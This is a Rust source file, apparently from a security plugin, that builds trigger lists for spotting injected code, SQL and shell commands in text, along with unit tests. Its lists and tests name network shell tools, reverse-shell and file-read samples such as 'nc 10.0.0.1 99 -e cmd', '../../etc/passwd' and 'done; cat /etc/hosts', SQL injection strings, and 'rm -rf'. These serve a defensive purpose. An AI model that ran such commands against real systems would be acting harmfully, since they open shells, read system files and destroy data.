//! Without what there is nothing to find in an answer.
//!
//! Code and payloads are made of signs that prose has not; what is found without one is a token of
//! the table, a command behind a `;`, or SQL in words behind a quote or at the text's beginning.

use caponier_sdk::{Kind, Manifest};

use crate::shell::WANTED;
use crate::tokens::ROWS;

/// Tokens that prose is full of. What they are found by is a sign, or one of `INSTEAD`.
#[rustfmt::skip]
const COMMON: &[&str] = &[
    // Where a variable is put into a string, behind a `;`, behind a quote, at the beginning.
    "select", "insert", "update", "delete", "drop", "echo", "print", "include", "require",
    "create", "alter", "grant", "truncate", "replace", "attach",
    "or", "and", "where", "having", "order", "group", "exec", "execute",
    // With an option, a file or a pipe on the line.
    "nc ", "ncat ", "netcat ", "cat ", "curl ", "wget ", "base64 -d", "bash -i",
    // Where `false` follows.
    "verify", "secure",
    // Their blanks may be several, so that a part is looked for.
    "into outfile", "into dumpfile", "load data infile", "procedure analyse", "bulk insert",
    "rm -rf", "rm -fr",
];

/// What is looked for instead, beside signs.
#[rustfmt::skip]
const INSTEAD: &[&str] = &[
    "order by", "group by", "master",
    "-e ", "-c ", "/dev/", "/etc", "--post-file",
    "false",
    "outfile", "dumpfile", "infile", "analyse", "bulk", "-rf", "-fr",
    // Paths upwards, and a pattern in a pattern.
    "./", "*)*",
    // Parts that several tokens have in common.
    "::", "cryptojs.", "cryptoserviceprovider", "digestutils.", "hostnameverifier", "servercertificate",
    ".ssl3", "typenamehandling.",
];

/// Adds what a host looks for.
pub(crate) fn add_to(manifest: Manifest) -> Manifest {
    let manifest = manifest
        // The arguments of a tool are run: words alone may be a command.
        .trigger_exempt(Kind::ToolCall)
        .trigger_class("code")
        .trigger_class("sql")
        // NUL ends a value.
        .trigger_class("control");
    texts().into_iter().fold(manifest, Manifest::trigger)
}

/// What is found without a sign, in lower case; nothing that holds another.
fn texts() -> Vec<String> {
    let signs = Manifest::new("signs", "1.0.0", "").trigger_class("code");
    let tokens = ROWS.iter().map(|row| row.token);
    let tokens = tokens.filter(|token| !COMMON.contains(token));
    // A command behind a `;` needs one of these.
    let all = tokens.chain(WANTED.iter().chain(INSTEAD).copied());
    let bare = all.filter(|text| !signs.may_concern(text));
    let mut texts: Vec<String> = bare.map(str::to_ascii_lowercase).collect();
    texts.sort_by_key(String::len);
    let mut kept: Vec<String> = Vec::new();
    for text in texts {
        if !kept.iter().any(|shorter| text.contains(shorter.as_str())) {
            kept.push(text);
        }
    }
    kept
}

#[cfg(test)]
mod tests {
    use super::*;

    fn concerns(text: &str) -> bool {
        add_to(Manifest::new("code", "1.0.0", "")).may_concern(text)
    }

    #[test]
    fn a_host_takes_the_triggers() {
        let texts = texts();
        assert!(
            (60..=124).contains(&texts.len()),
            "{} {texts:?}",
            texts.len()
        );
        let known = |token: &&str| ROWS.iter().any(|row| row.token == *token);
        assert!(COMMON.iter().all(known));
    }

    #[test]
    fn most_prose_is_passed_over() {
        for text in [
            "The garden measured 12.34 by 712, or 45 % of the harbour, at 34712 EUR.",
            "Zürich café naïve: a \"quoted\" word (and a responsible one), isn't it; in order to select \
             one, update or delete the others, and print where they were included.",
            "It was well-known - and still is! Note: 12:30, 45%.",
        ] {
            assert!(!concerns(text), "{text}");
        }
        for text in [
            "```python\nprint(1)\n```",
            "x' or 1 is 1",
            "../../etc/passwd",
            "<b>",
            "nc 10.0.0.1 99 -e cmd",
            "Execute master plans",
            "x;id",
            "done; cat /etc/hosts",
        ] {
            assert!(concerns(text), "{text}");
        }
    }
}
